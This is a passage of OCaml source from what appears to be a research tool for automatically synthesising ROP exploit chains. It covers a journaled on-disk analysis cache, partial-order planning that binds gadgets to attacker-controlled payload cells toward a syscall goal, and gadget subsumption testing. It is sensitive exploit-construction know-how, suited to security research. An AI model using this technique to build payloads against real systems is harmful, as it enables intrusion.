      Mutex.protect s.s_lock (fun () -> Hashtbl.fold f s.s_tbl acc))
    acc shards

let fold_suffixes f acc =
  Array.fold_left
    (fun acc s ->
      Mutex.protect s.x_lock (fun () -> Hashtbl.fold f s.x_tbl acc))
    acc sshards

let fold_fps f acc =
  Array.fold_left
    (fun acc s ->
      Mutex.protect s.f_lock (fun () -> Hashtbl.fold f s.f_tbl acc))
    acc fshards

type load_info = {
  li_entries : int;       (* entries imported from the base store *)
  li_wal_replayed : int;  (* entries recovered from the journal's valid prefix *)
  li_wal_truncated : int; (* bytes dropped from a torn journal tail; 0 = clean *)
}

type status =
  | Loaded of load_info
  | Absent             (* no store file: a plain cold run *)
  | Rejected of string (* found but unusable; demoted to cold, reason kept *)

let path ~dir = Filename.concat dir file_name
let wal_path ~dir = Gp_util.Store.Wal.path_of (path ~dir)

(* Merge decoded sections into the table + solver memos; returns the
   entry count.  Deserializes outside the lock; first-write-wins
   inside.  Raises [Bin.Truncated] on payloads that pass their
   checksums but fail to decode (writer/reader schema skew the version
   field missed). *)
let import_sections sections =
  let n = ref 0 in
  List.iter
    (fun { Gp_util.Store.name; entries } ->
      if name = summaries_section then begin
        n := !n + List.length entries;
        let decoded =
          List.map (fun (k, v) -> (k, Gp_symx.Exec.read_summaries v)) entries
        in
        List.iter
          (fun (k, v) ->
            let s = shard_of k in
            Mutex.protect s.s_lock (fun () ->
                if not (Hashtbl.mem s.s_tbl k) then Hashtbl.add s.s_tbl k v))
          decoded
      end
      else if name = suffixes_section then begin
        n := !n + List.length entries;
        (* payloads stay raw; Extract's consulting hook decodes (and
           rejects) lazily, so a skewed payload degrades to a miss *)
        List.iter
          (fun (k, v) ->
            let s = sshard_of k in
            Mutex.protect s.x_lock (fun () ->
                if not (Hashtbl.mem s.x_tbl k) then Hashtbl.add s.x_tbl k v))
          entries
      end
      else if name = fingerprints_section then begin
        n := !n + List.length entries;
        let decoded = List.map (fun (k, v) -> (k, read_fp v)) entries in
        List.iter
          (fun (k, fp) ->
            let s = fshard_of k in
            Mutex.protect s.f_lock (fun () ->
                if not (Hashtbl.mem s.f_tbl k) then Hashtbl.add s.f_tbl k fp))
          decoded
      end)
    sections;
  n := !n + Solver.import_memos sections;
  !n

(* Regroup a WAL replay (flat, append-ordered) into store sections so
   the one import path serves both.  Append order within a section is
   preserved; first-write-wins makes replay idempotent even when the
   journal holds records the last compaction already folded in. *)
let sections_of_replay (r : Gp_util.Store.Wal.replay) =
  let names = ref [] in
  let by_name = Hashtbl.create 4 in
  List.iter
    (fun (section, k, v) ->
      match Hashtbl.find_opt by_name section with
      | Some acc -> acc := (k, v) :: !acc
      | None ->
        names := section :: !names;
        Hashtbl.add by_name section (ref [ (k, v) ]))
    r.Gp_util.Store.Wal.entries;
  List.rev_map
    (fun name ->
      { Gp_util.Store.name; entries = List.rev !(Hashtbl.find by_name name) })
    !names

let load ~dir =
  let base =
    match Gp_util.Store.load ~schema:schema_version (path ~dir) with
    | Error Gp_util.Store.Missing -> `Absent
    | Error e -> `Rejected (Gp_util.Store.error_reason e)
    | Ok sections -> `Ok sections
  in
  match base with
  | `Rejected why -> Rejected why
  | (`Absent | `Ok _) as base -> (
    let wal =
      match Gp_util.Store.Wal.read ~schema:schema_version (wal_path ~dir) with
      | Error Gp_util.Store.Missing -> `Absent
      | Error e -> `Rejected ("wal " ^ Gp_util.Store.error_reason e)
      | Ok r -> `Ok r
    in
    match wal with
    | `Rejected why ->
      (* a journal we can't even parse the header of is not a torn
         tail — it's a foreign/stale file; demote the whole store so
         we never mix its records in *)
      Rejected why
    | (`Absent | `Ok _) as wal -> (
      match (base, wal) with
      | `Absent, `Absent -> Absent
      | `Absent, `Ok { Gp_util.Store.Wal.entries = []; torn_bytes = 0; _ } ->
        Absent
      | _ -> (
        match
          let n =
            match base with `Ok sections -> import_sections sections | `Absent -> 0
          in
          let m, torn =
            match wal with
            | `Ok r ->
              (import_sections (sections_of_replay r), r.Gp_util.Store.Wal.torn_bytes)
            | `Absent -> (0, 0)
          in
          (n, m, torn)
        with
        | n, m, torn ->
          Loaded { li_entries = n; li_wal_replayed = m; li_wal_truncated = torn }
        | exception Gp_util.Store.Bin.Truncated ->
          (* checksummed bytes that still fail to decode mean a
             writer/reader schema skew the version field missed; treat
             exactly like any other unusable store *)
          Rejected "corrupt: entry decode")))

(* Journal state, declared before [save] because the snapshot path
   must recognize its own open journal (compaction saves while the
   journal legitimately holds the dir's lock). *)

type journal = {
  j_dir : string;
  j_wal : Gp_util.Store.Wal.t;
  j_lock : Gp_util.Store.lock;
  j_seen : (string, unit) Hashtbl.t; (* section ^ "\x00" ^ key already durable *)
  j_mutex : Mutex.t;
  mutable j_memo_mark : int;
      (* [Solver.memo_count] at the last checkpoint: memos are add-only
         within a run, so an unchanged count means no delta — the
         checkpoint skips the serializing export scan entirely *)
}

let journal_st : journal option ref = ref None
let journal_error_r : string option ref = ref None
let lock_name = ".store.lock"

let locked_prefix = "locked: "

let save ~dir =
  (* Single-writer discipline on the snapshot path too: take the dir's
     advisory lock for the duration of the write, unless this process's
     own journal already holds it for [dir] (the compaction path saves
     under the journal's lock).  When a resident daemon holds the lock,
     a CLI save demotes cleanly — the caller quarantines the
     [locked_prefix]-tagged reason as [Fail.Store_locked] and keeps its
     in-memory results, the PR-6 second-writer demotion extended from
     journal open to plain saves (DESIGN.md §15). *)
  let own_journal =
    match !journal_st with Some j -> j.j_dir = dir | None -> false
  in
  let guard =
    if own_journal then Ok None
    else
      match Gp_util.Store.try_lock ~name:lock_name dir with
      | Ok l -> Ok (Some l)
      | Error who -> Error (locked_prefix ^ who)
  in
  match guard with
  | Error why -> Error why
  | Ok l ->
    Fun.protect
      ~finally:(fun () ->
        match l with Some l -> Gp_util.Store.unlock l | None -> ())
      (fun () ->
        let snapshot = fold_all (fun k v acc -> (k, v) :: acc) [] in
        let entries =
          snapshot
          |> List.map (fun (k, v) -> (k, Gp_symx.Exec.write_summaries v))
          |> List.sort compare
        in
        let suffix_entries =
          fold_suffixes (fun k v acc -> (k, v) :: acc) [] |> List.sort compare
        in
        let fp_entries =
          fold_fps (fun k fp acc -> (k, write_fp fp) :: acc) []
          |> List.sort compare
        in
        let sections =
          { Gp_util.Store.name = summaries_section; entries }
          :: { Gp_util.Store.name = suffixes_section; entries = suffix_entries }
          :: { Gp_util.Store.name = fingerprints_section; entries = fp_entries }
          :: Solver.export_memos ()
        in
        Gp_util.Store.save ~schema:schema_version (path ~dir) sections)

let save_locked why =
  String.length why >= String.length locked_prefix
  && String.sub why 0 (String.length locked_prefix) = locked_prefix

(* ----- write-ahead journal mode ----- *)

(* When a journal is open, every fresh summary is appended to the WAL
   as it is produced and solver-memo deltas are appended at each
   checkpoint, so a run killed at any instant loses at most the work
   since the last [journal_checkpoint] fsync.  [journal_compact] folds
   the journal into the base store atomically (fsync'd save, then WAL
   reset); a crash between the two leaves already-compacted records in
   the WAL, whose replay is idempotent.

   Single writer: the cache dir's advisory lock is taken on open; a
   second writer (same process or another) demotes to read-only and
   reports [Store_locked].  Journal I/O errors mid-run demote to
   in-memory-only (sticky [journal_error]) rather than killing the
   sweep. *)

let journaling () = !journal_st <> None
let journal_error () = !journal_error_r

let seen_key section key = section ^ "\x00" ^ key

let journal_demote why =
  match !journal_st with
  | None -> ()
  | Some j ->
    journal_st := None;
    journal_error_r := Some why;
    (try Gp_util.Store.Wal.close j.j_wal with _ -> ());
    Gp_util.Store.unlock j.j_lock

type journal_open_result = {
  jo_status : status;   (* what the open loaded (base + WAL replay) *)
  jo_mode : [ `Journaling | `Read_only of string ];
}

let journal_close_writer () =
  match !journal_st with
  | None -> ()
  | Some j ->
    journal_st := None;
    Gp_util.Store.Wal.close j.j_wal;
    Gp_util.Store.unlock j.j_lock

(* Mark everything currently durable (base store + replayed WAL +
   already-exported memos) so checkpoints only append deltas. *)
let journal_mark_existing j =
  Mutex.protect j.j_mutex (fun () ->
      fold_all
        (fun k _ () ->
          Hashtbl.replace j.j_seen (seen_key summaries_section k) ())
        ();
      fold_suffixes
        (fun k _ () ->
          Hashtbl.replace j.j_seen (seen_key suffixes_section k) ())
        ();
      fold_fps
        (fun k _ () ->
          Hashtbl.replace j.j_seen (seen_key fingerprints_section k) ())
        ();
      List.iter
        (fun { Gp_util.Store.name; entries } ->
          List.iter
            (fun (k, _) -> Hashtbl.replace j.j_seen (seen_key name k) ())
            entries)
        (Solver.export_memos ());
      j.j_memo_mark <- Solver.memo_count ())

let journal_open ~dir =
  journal_close_writer ();
  journal_error_r := None;
  let status = load ~dir in
  match status with
  | Rejected _ ->
    (* the on-disk state is unusable; journaling over it would mix a
       fresh run into rejected bytes.  Discard both files and start a
       clean journaled run — the reject reason is already in [status]
       for the caller's quarantine ledger. *)
    (match Gp_util.Store.try_lock ~name:lock_name dir with
    | Error who -> { jo_status = status; jo_mode = `Read_only who }
    | Ok l -> (
      (try Sys.remove (path ~dir) with Sys_error _ -> ());
      (try Sys.remove (wal_path ~dir) with Sys_error _ -> ());
      match Gp_util.Store.Wal.open_append ~schema:schema_version (wal_path ~dir) with
      | Error why ->
        Gp_util.Store.unlock l;
        { jo_status = status; jo_mode = `Read_only why }
      | Ok (w, _) ->
        let j =
          { j_dir = dir; j_wal = w; j_lock = l;
            j_seen = Hashtbl.create 4096; j_mutex = Mutex.create ();
            j_memo_mark = -1 }
        in
        journal_mark_existing j;
        journal_st := Some j;
        { jo_status = status; jo_mode = `Journaling }))
  | Absent | Loaded _ -> (
    match Gp_util.Store.try_lock ~name:lock_name dir with
    | Error who -> { jo_status = status; jo_mode = `Read_only who }
    | Ok l -> (
      match Gp_util.Store.Wal.open_append ~schema:schema_version (wal_path ~dir) with
      | Error why ->
        Gp_util.Store.unlock l;
        { jo_status = status; jo_mode = `Read_only why }
      | Ok (w, _) ->
        let j =
          { j_dir = dir; j_wal = w; j_lock = l;
            j_seen = Hashtbl.create 4096; j_mutex = Mutex.create ();
            j_memo_mark = -1 }
        in
        journal_mark_existing j;
        journal_st := Some j;
        { jo_status = status; jo_mode = `Journaling }))

(* Append one summary record.  Called from worker domains via [add];
   serialization happens outside every lock, the WAL has its own
   mutex.  [Faultsim.Crashed] must escape (simulated process death);
   real I/O failures demote. *)
let journal_append_summary key v =
  match !journal_st with
  | None -> ()
  | Some j ->
    let fresh =
      Mutex.protect j.j_mutex (fun () ->
          let sk = seen_key summaries_section key in
          if Hashtbl.mem j.j_seen sk then false
          else begin
            Hashtbl.replace j.j_seen sk ();
            true
          end)
    in
    if fresh then begin
      let value = Gp_symx.Exec.write_summaries v in
      try
        Gp_util.Store.Wal.append j.j_wal ~section:summaries_section ~key ~value
      with
      | Sys_error why | Failure why -> journal_demote why
      | Unix.Unix_error (e, fn, _) ->
        journal_demote (fn ^ ": " ^ Unix.error_message e)
    end

(* Same discipline for fresh fingerprint entries (already serialized
   by [fp_of]). *)
let journal_append_fp key value =
  match !journal_st with
  | None -> ()
  | Some j ->
    let fresh =
      Mutex.protect j.j_mutex (fun () ->
          let sk = seen_key fingerprints_section key in
          if Hashtbl.mem j.j_seen sk then false
          else begin
            Hashtbl.replace j.j_seen sk ();
            true
          end)
    in
    if fresh then begin
      try
        Gp_util.Store.Wal.append j.j_wal ~section:fingerprints_section ~key
          ~value
      with
      | Sys_error why | Failure why -> journal_demote why
      | Unix.Unix_error (e, fn, _) ->
        journal_demote (fn ^ ": " ^ Unix.error_message e)
    end

(* Same discipline for fresh suffix entries (already serialized). *)
let journal_append_suffix key value =
  match !journal_st with
  | None -> ()
  | Some j ->
    let fresh =
      Mutex.protect j.j_mutex (fun () ->
          let sk = seen_key suffixes_section key in
          if Hashtbl.mem j.j_seen sk then false
          else begin
            Hashtbl.replace j.j_seen sk ();
            true
          end)
    in
    if fresh then begin
      try
        Gp_util.Store.Wal.append j.j_wal ~section:suffixes_section ~key ~value
      with
      | Sys_error why | Failure why -> journal_demote why
      | Unix.Unix_error (e, fn, _) ->
        journal_demote (fn ^ ": " ^ Unix.error_message e)
    end

(* Durability point: append the solver-memo delta since the last
   checkpoint, then fsync.  Runs at cell boundaries (the corpus runner
   calls it after each completed cell). *)
let journal_checkpoint () =
  match !journal_st with
  | None -> Ok 0
  | Some j -> (
    try
      if Solver.memo_count () = j.j_memo_mark then begin
        (* no new memos since the last checkpoint: just make any
           pending summary appends durable (a no-op when clean) *)
        Gp_util.Store.Wal.sync j.j_wal;
        Ok 0
      end
      else begin
      let fresh = ref [] in
      Mutex.protect j.j_mutex (fun () ->
          List.iter
            (fun { Gp_util.Store.name; entries } ->
              List.iter
                (fun (k, v) ->
                  let sk = seen_key name k in
                  if not (Hashtbl.mem j.j_seen sk) then begin
                    Hashtbl.replace j.j_seen sk ();
                    fresh := (name, k, v) :: !fresh
                  end)
                entries)
            (Solver.export_memos ()));
      List.iter
        (fun (section, key, value) ->
          Gp_util.Store.Wal.append j.j_wal ~section ~key ~value)
        (List.rev !fresh);
      Gp_util.Store.Wal.sync j.j_wal;
      j.j_memo_mark <- Solver.memo_count ();
      Ok (List.length !fresh)
      end
    with
    | Sys_error why | Failure why ->
      journal_demote why;
      Error why
    | Unix.Unix_error (e, fn, _) ->
      let why = fn ^ ": " ^ Unix.error_message e in
      journal_demote why;
      Error why)

(* Fold the journal into the base store: one fsync'd atomic [save],
   then chop the WAL back to a bare header. *)
let journal_compact () =
  match !journal_st with
  | None -> Error "no journal open"
  | Some j -> (
    match save ~dir:j.j_dir with
    | Error why ->
      journal_demote why;
      Error why
    | Ok () ->
      Gp_util.Store.Wal.reset j.j_wal;
      Ok ())

let journal_close () =
  match !journal_st with
  | None -> Ok ()
  | Some _ -> (
    match journal_compact () with
    | Error why ->
      journal_close_writer ();
      Error why
    | Ok () ->
      journal_close_writer ();
      Ok ())

(* Simulated-crash teardown: release fds and the lock without flushing
   or compacting, leaving the on-disk state exactly as at the crash.
   The in-memory table is NOT touched — tests reset the world
   themselves to model the restart. *)
let journal_abandon () =
  (match !journal_st with
  | None -> ()
  | Some j ->
    journal_st := None;
    Gp_util.Store.Wal.abandon j.j_wal;
    Gp_util.Store.unlock j.j_lock);
  journal_error_r := None

let () = fresh_hook := journal_append_summary
let () = suffix_fresh_hook := journal_append_suffix
let () = fp_fresh_hook := journal_append_fp
