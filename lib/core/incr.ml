(* Content-addressed incremental analysis (DESIGN.md §11).

   One process-wide table maps {!Gadget.content_key} strings to the full
   result of symbolically executing that content — [(summaries,
   refusal)] exactly as [Exec.summarize_r] returns them.  The table is
   consulted by [Extract.examine_start] before executing, so identical
   byte content — unaligned siblings inside one image, or the same run
   harvested from [original]/[llvm-obf]/[tigress] builds — is summarized
   once.  Because the key determines the summaries exactly (see
   [Gadget.content_key]) and [Exec.rebase] restores the one
   position-dependent field, a hit is bit-identical to a fresh compute:
   the layer is semantically transparent and on by default, like the
   term and solver memos ([set_enabled false] for ablation).

   [load]/[save] round-trip the table — plus the solver verdict memos,
   which is how SUBSUMPTION consults the store: its probe verdicts are
   pure functions of canonical formula keys, so pre-seeding them answers
   warm-start probes without a solve — through [Gp_util.Store]'s
   checksummed format.  A store that fails any check (missing, corrupt,
   version-stale) degrades to a cold run; the caller records the reason
   and carries on.

   Thread safety: same discipline as the other shared caches — mutex
   around table operations, nothing user-supplied under the lock,
   first-write-wins so racing domains at worst duplicate a compute.
   [load]/[save] are main-domain operations (called outside the
   parallel sections by Api). *)

open Gp_smt

let schema_version = 1
let file_name = "summaries.gpst"
let summaries_section = "summaries"

type value = Gp_symx.Exec.summary list * string option

let tbl : (string, value) Hashtbl.t = Hashtbl.create 4096
let lock = Mutex.create ()
let on = ref true

let enabled () = !on
let set_enabled b = on := b
let size () = Mutex.protect lock (fun () -> Hashtbl.length tbl)
let reset () = Mutex.protect lock (fun () -> Hashtbl.reset tbl)

let find key = Mutex.protect lock (fun () -> Hashtbl.find_opt tbl key)

let add key v =
  Mutex.protect lock (fun () ->
      if not (Hashtbl.mem tbl key) then Hashtbl.add tbl key v)

type status =
  | Loaded of int      (* entries imported (summaries + solver verdicts) *)
  | Absent             (* no store file: a plain cold run *)
  | Rejected of string (* found but unusable; demoted to cold, reason kept *)

let path ~dir = Filename.concat dir file_name

let load ~dir =
  match Gp_util.Store.load ~schema:schema_version (path ~dir) with
  | Error Gp_util.Store.Missing -> Absent
  | Error e -> Rejected (Gp_util.Store.error_reason e)
  | Ok sections -> (
    match
      let n = ref 0 in
      List.iter
        (fun { Gp_util.Store.name; entries } ->
          if name = summaries_section then begin
            n := !n + List.length entries;
            (* deserialize outside the lock; first-write-wins inside *)
            let decoded =
              List.map (fun (k, v) -> (k, Gp_symx.Exec.read_summaries v)) entries
            in
            Mutex.protect lock (fun () ->
                List.iter
                  (fun (k, v) ->
                    if not (Hashtbl.mem tbl k) then Hashtbl.add tbl k v)
                  decoded)
          end)
        sections;
      n := !n + Solver.import_memos sections;
      !n
    with
    | n -> Loaded n
    | exception Gp_util.Store.Bin.Truncated ->
      (* checksummed bytes that still fail to decode mean a writer/reader
         schema skew the version field missed; treat exactly like any
         other unusable store *)
      Rejected "corrupt: entry decode")

let save ~dir =
  let snapshot =
    Mutex.protect lock (fun () ->
        Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl [])
  in
  let entries =
    snapshot
    |> List.map (fun (k, v) -> (k, Gp_symx.Exec.write_summaries v))
    |> List.sort compare
  in
  let sections =
    { Gp_util.Store.name = summaries_section; entries }
    :: Solver.export_memos ()
  in
  Gp_util.Store.save ~schema:schema_version (path ~dir) sections
