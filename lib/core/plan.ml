(* Plan representation for partial-order planning (paper §IV-D).

   A plan is the 5-tuple (α, β, γ, δ, ε): steps, orderings, causal links,
   open pre-conditions, and (transient) threats.  Steps are INSTANTIATED
   gadgets: at instantiation time the gadget's pre-conditions and the
   required effect are solved together, yielding concrete stack-slot
   bindings (payload cells) and concrete register demands on earlier
   steps.  This concretization keeps the POP machinery classical — every
   condition is "register r equals value v at this step's entry" or
   "memory cell a holds v" — while the symbolic heavy lifting happens in
   the solver at instantiation. *)

open Gp_x86
open Gp_smt

type cond =
  | Creg of Reg.t * int64
  | Cmem of int64 * int64

let cond_to_string = function
  | Creg (r, v) -> Printf.sprintf "%s=0x%Lx" (Reg.name r) v
  | Cmem (a, v) -> Printf.sprintf "[0x%Lx]=0x%Lx" a v

type step_id = int

type step = {
  sid : step_id;
  gadget : Gadget.t;
  bindings : (int * int64) list;        (* slot offset -> payload value *)
  abs_bindings : (int64 * int64) list;  (* absolute payload cell -> value *)
  mem_cells : (string * int64) list;    (* mem var -> absolute payload cell *)
  effects : (Reg.t * int64) list;       (* concrete register effects *)
  mem_effects : (int64 * int64) list;   (* concrete pointer-write effects *)
  write_addrs : int64 list;             (* all determined write targets *)
  demands : cond list;                  (* pre-conditions on the entry state *)
  is_goal : bool;
}

type t = {
  steps : step list;
  orderings : (step_id * step_id) list;  (* (a, b): a executes before b *)
  links : (step_id * cond * step_id) list;
  open_conds : (step_id * cond) list;    (* (consumer, needed condition) *)
  next_sid : int;
}

(* ----- instantiation ----- *)

let reg_of_entry_var name =
  if String.length name > 2 && String.sub name (String.length name - 2) 2 = "_0"
  then
    match Reg.of_name (String.sub name 0 (String.length name - 2)) with
    | r -> Some r
    | exception _ -> None
  else None

let is_slot_var name = Gp_symx.State.slot_of_var name <> None

let find_mem_read (g : Gadget.t) v =
  List.find_opt (fun (n, _, _) -> n = v) g.Gadget.mem_reads

let is_mem_var (g : Gadget.t) v = find_mem_read g v <> None

(* only RELIABLE reads can be treated as attacker-chosen payload cells *)
let is_reliable_mem_var (g : Gadget.t) v =
  match find_mem_read g v with Some (_, _, r) -> r | None -> false

(* Solve [require] together with the gadget's own pre-conditions.
   Returns (bindings, abs_bindings, mem_cells, demands, model) or None.

   Memory values read through controlled pointers are handled per the
   paper (§IV-B): the pointer variable is pinned into the payload region,
   the read value becomes a payload cell we bind (abs_bindings), and the
   variable is otherwise unconstrained.  A memory read whose cell does
   NOT land in attacker-controlled memory poisons the instantiation. *)
let solve_instantiation ?(salt = 0) (g : Gadget.t) (require : Formula.t list) =
  let formulas = g.Gadget.pre @ require in
  let vars =
    List.fold_left
      (fun s f -> Term.Vset.union s (Formula.vars f))
      Term.Vset.empty formulas
  in
  (* reject outright-uncontrollable variables *)
  if
    Term.Vset.exists
      (fun v ->
        (not (is_slot_var v))
        && (not (is_mem_var g v))
        && (reg_of_entry_var v = None || reg_of_entry_var v = Some Reg.RSP))
      vars
  then None
  else
    match
      Solver.check
        ~pool:(Layout.pool ~salt:(g.Gadget.id + salt))
        ~pool_key:(Layout.pool_key ~salt:(g.Gadget.id + salt))
        formulas
    with
    | Solver.Sat model ->
      let m = Solver.model_fn model in
      (* resolve every RELIABLE memory read whose address is determined *)
      let mem_cells =
        List.filter_map
          (fun (name, addr, reliable) ->
            if
              reliable
              && Term.Vset.for_all
                   (fun v -> Gp_smt.Solver.Smap.mem v model)
                   (Term.vars addr)
            then begin
              let a = Term.eval m addr in
              if Layout.in_payload a then Some (name, a) else None
            end
            else None)
          g.Gadget.mem_reads
      in
      let ok = ref true in
      let bindings = ref [] in
      let abs_bindings = ref [] in
      let demands = ref [] in
      Term.Vset.iter
        (fun v ->
          let value = m v in
          match Gp_symx.State.slot_of_var v with
          | Some off -> bindings := (off, value) :: !bindings
          | None -> (
            match reg_of_entry_var v with
            | Some r -> demands := Creg (r, value) :: !demands
            | None ->
              if is_mem_var g v then begin
                match List.assoc_opt v mem_cells with
                | Some cell -> abs_bindings := (cell, value) :: !abs_bindings
                | None -> ok := false   (* constrained read outside our memory *)
              end))
        vars;
      if !ok then Some (!bindings, !abs_bindings, mem_cells, !demands, model)
      else None
    | Solver.Unsat | Solver.Unknown -> None

(* Will this gadget's outgoing transfer be solvable to an arbitrary next
   address at payload-build time?  True when the target is a payload slot
   (or affine in one), or a memory read resolved to a payload cell. *)
let target_controllable (g : Gadget.t) mem_cells =
  match g.Gadget.jmp with
  | Gp_symx.Exec.Jfall _ -> false
  | Gp_symx.Exec.Jret t | Gp_symx.Exec.Jind t -> (
    match Term.linearize t with
    | Some { Term.lin_terms = [ (v, k) ]; _ } when Int64.logand k 1L = 1L ->
      is_slot_var v || List.mem_assoc v mem_cells
    | _ -> false)

(* Concrete effects of the gadget under a model: every post register (and
   pointer write) whose term is fully determined by the model. *)
let concrete_effects (g : Gadget.t) model =
  let determined t =
    Term.Vset.for_all
      (fun v -> Gp_smt.Solver.Smap.mem v model)
      (Term.vars t)
  in
  let effects =
    List.filter_map
      (fun (r, t) ->
        if r <> Reg.RSP && determined t then
          Some (r, Term.eval (Solver.model_fn model) t)
        else None)
      g.Gadget.post
  in
  let mem_effects =
    List.filter_map
      (fun (a, v) ->
        if determined a && determined v then
          Some (Term.eval (Solver.model_fn model) a, Term.eval (Solver.model_fn model) v)
        else None)
      g.Gadget.ptr_writes
  in
  (* write targets whose address is known even when the value isn't:
     they still trample payload cells at run time *)
  let write_addrs =
    List.filter_map
      (fun (a, _) ->
        if determined a then Some (Term.eval (Solver.model_fn model) a) else None)
      g.Gadget.ptr_writes
  in
  (effects, mem_effects, write_addrs)

(* Instantiate [g] to achieve [cond]. *)
let instantiate_for (g : Gadget.t) (cond : cond) ~sid : step option =
  match g.Gadget.jmp with
  | Gp_symx.Exec.Jfall _ ->
    (* a gadget that dead-ends at a syscall cannot sit in the chain
       interior; only the goal step may end there *)
    None
  | Gp_symx.Exec.Jret _ | Gp_symx.Exec.Jind _ ->
  (* a gadget only ACHIEVES a register condition if it writes the register;
     pass-through would merely defer the same condition *)
  (match cond with
   | Creg (r, _) when not (List.mem r g.Gadget.clobbered) -> None
   | _ ->
  let require =
    match cond with
    | Creg (r, v) -> [ Formula.Eq (Gadget.post_of g r, Term.const v) ]
    | Cmem (a, v) -> (
      (* choose the first pointer write that can hit the cell *)
      match g.Gadget.ptr_writes with
      | [] -> []
      | (at, vt) :: _ ->
        [ Formula.Eq (at, Term.const a); Formula.Eq (vt, Term.const v) ])
  in
  if require = [] && (match cond with Cmem _ -> true | _ -> false) then None
  else
    match solve_instantiation ~salt:(Hashtbl.hash cond) g require with
    | None -> None
    | Some (bindings, abs_bindings, mem_cells, demands, model) ->
      if not (target_controllable g mem_cells) then None
      else
      let effects, mem_effects, write_addrs = concrete_effects g model in
      (* the instantiation must actually deliver the condition *)
      let delivers =
        match cond with
        | Creg (r, v) -> List.assoc_opt r effects = Some v
        | Cmem (a, v) -> List.mem (a, v) mem_effects
      in
      (* a gadget whose writes cannot all be located is too dangerous to
         place in a chain: it might trample any payload cell *)
      if (not delivers) || List.length write_addrs < List.length g.Gadget.ptr_writes
      then None
      else
        Some
          { sid; gadget = g; bindings; abs_bindings; mem_cells; effects;
            mem_effects; write_addrs; demands; is_goal = false })

(* Instantiate a syscall gadget as the plan's GOAL step. *)
let instantiate_goal (g : Gadget.t) (goal : Goal.concrete) ~sid : step option =
  match g.Gadget.syscall_state with
  | None -> None
  | Some sys ->
    let require =
      List.map
        (fun (r, v) ->
          match List.assoc_opt r sys with
          | Some t -> Formula.Eq (t, Term.const v)
          | None -> Formula.False)
        goal.Goal.regs
    in
    match solve_instantiation g require with
    | None -> None
    | Some (bindings, abs_bindings, mem_cells, demands, model) ->
      let effects, mem_effects, write_addrs = concrete_effects g model in
      if List.length write_addrs < List.length g.Gadget.ptr_writes then None
      else
        Some
          { sid; gadget = g; bindings; abs_bindings; mem_cells; effects;
            mem_effects; write_addrs; demands; is_goal = true }

(* ----- plan-level helpers ----- *)

let find_step (p : t) sid = List.find (fun s -> s.sid = sid) p.steps

(* Is there a path a ~> b in the ordering relation? *)
let reaches (p : t) a b =
  let rec go visited frontier =
    match frontier with
    | [] -> false
    | x :: rest ->
      if x = b then true
      else if List.mem x visited then go visited rest
      else
        let next =
          List.filter_map
            (fun (u, v) -> if u = x then Some v else None)
            p.orderings
        in
        go (x :: visited) (next @ rest)
  in
  go [] [ a ]

let add_ordering (p : t) a b : t option =
  if a = b then None
  else if List.mem (a, b) p.orderings then Some p
  else if reaches p b a then None   (* would create a cycle *)
  else Some { p with orderings = (a, b) :: p.orderings }

(* Does step [s] clobber the resource of [cond]? *)
let clobbers (s : step) (cond : cond) =
  match cond with
  | Creg (r, v) -> (
    List.mem r s.gadget.Gadget.clobbered
    && match List.assoc_opt r s.effects with
       | Some v' -> v' <> v   (* writing the same value is harmless *)
       | None -> true)
  | Cmem (a, v) ->
    List.exists (fun (a', v') -> a' = a && v' <> v) s.mem_effects
    (* pointer writes whose target could not be concretized might hit
       anything: conservative threat *)
    || List.length s.mem_effects < List.length s.gadget.Gadget.ptr_writes

(* Resolve all threats to link (producer, cond, consumer) from existing
   steps, greedily (demotion first, then promotion).  None = unresolvable. *)
let protect_link (p : t) (producer : step_id) cond (consumer : step_id) : t option =
  List.fold_left
    (fun acc (s : step) ->
      match acc with
      | None -> None
      | Some p ->
        if s.sid = producer || s.sid = consumer then Some p
        else if not (clobbers s cond) then Some p
        else
          (* order the threat before the producer, or after the consumer *)
          (match add_ordering p s.sid producer with
           | Some p' -> Some p'
           | None -> add_ordering p consumer s.sid))
    (Some p) p.steps

(* Threats caused by a NEW step against existing links. *)
let protect_from (p : t) (s : step) : t option =
  List.fold_left
    (fun acc (producer, cond, consumer) ->
      match acc with
      | None -> None
      | Some p ->
        if s.sid = producer || s.sid = consumer then Some p
        else if not (clobbers s cond) then Some p
        else
          (match add_ordering p s.sid producer with
           | Some p' -> Some p'
           | None -> add_ordering p consumer s.sid))
    (Some p) p.links

(* Canonical signature for visited-set deduplication. *)
let signature (p : t) =
  let steps =
    List.sort compare
      (List.map (fun s -> (s.gadget.Gadget.addr, s.sid)) p.steps)
  in
  let opens = List.sort compare (List.map (fun (c, k) -> (c, cond_to_string k)) p.open_conds) in
  Digest.string (Marshal.to_string (steps, opens, List.sort compare p.orderings) [])
