(* Subsumption testing (paper §IV-C).

   g1 subsumes g2 when (pre2 -> pre1) ∧ (post1 = post2): g1 does the same
   thing under a pre-condition at least as weak, so g2 adds nothing and is
   dropped.  Checked with the solver per formula (1).  Two speedups:

   - an exact-duplicate pass first (unaligned sliding produces thousands
     of byte-identical summaries at different addresses — we canonicalize
     on semantics, keeping one address per class);
   - candidates are bucketed by a cheap signature (jump kind, stack delta,
     clobber set) so the quadratic comparison only runs inside buckets. *)

open Gp_smt

let jump_sig (g : Gadget.t) =
  match g.Gadget.jmp with
  | Gp_symx.Exec.Jret _ -> 0
  | Gp_symx.Exec.Jind _ -> 1
  | Gp_symx.Exec.Jfall _ -> 2

let signature (g : Gadget.t) =
  ( jump_sig g,
    g.Gadget.stack_delta,
    List.map Gp_x86.Reg.number g.Gadget.clobbered,
    List.length g.Gadget.pre,
    g.Gadget.syscall_state <> None )

(* Canonical semantic key: printable form of the full post state, the jump
   target, stack writes, and pre-conditions.  Equal keys = equal
   semantics (terms are canonicalized by construction). *)
let semantic_key (g : Gadget.t) =
  let post =
    String.concat ";"
      (List.map
         (fun (r, t) -> Gp_x86.Reg.name r ^ "=" ^ Term.to_string t)
         g.Gadget.post)
  in
  let jmp =
    match g.Gadget.jmp with
    | Gp_symx.Exec.Jret t -> "ret:" ^ Term.to_string t
    | Gp_symx.Exec.Jind t -> "ind:" ^ Term.to_string t
    | Gp_symx.Exec.Jfall _ -> "sys"
  in
  let writes =
    String.concat ";"
      (List.map
         (fun (o, t) -> string_of_int o ^ ":" ^ Term.to_string t)
         g.Gadget.stack_writes)
  in
  let ptrw =
    String.concat ";"
      (List.map
         (fun (a, v) -> Term.to_string a ^ "<-" ^ Term.to_string v)
         g.Gadget.ptr_writes)
  in
  let pre = String.concat "&&" (List.map Formula.to_string g.Gadget.pre) in
  String.concat "|" [ post; jmp; writes; ptrw; pre ]

